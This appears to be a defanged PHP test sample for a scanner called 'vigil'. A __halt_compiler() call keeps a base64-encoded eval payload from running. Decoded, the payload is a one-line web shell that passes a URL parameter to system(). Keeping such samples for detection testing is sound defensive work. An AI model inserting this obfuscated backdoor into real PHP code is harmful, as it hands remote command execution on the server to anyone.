<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
$p = base64_decode('c3lzdGVtKCRfR0VUWydjJ10pOw==');
eval($p);
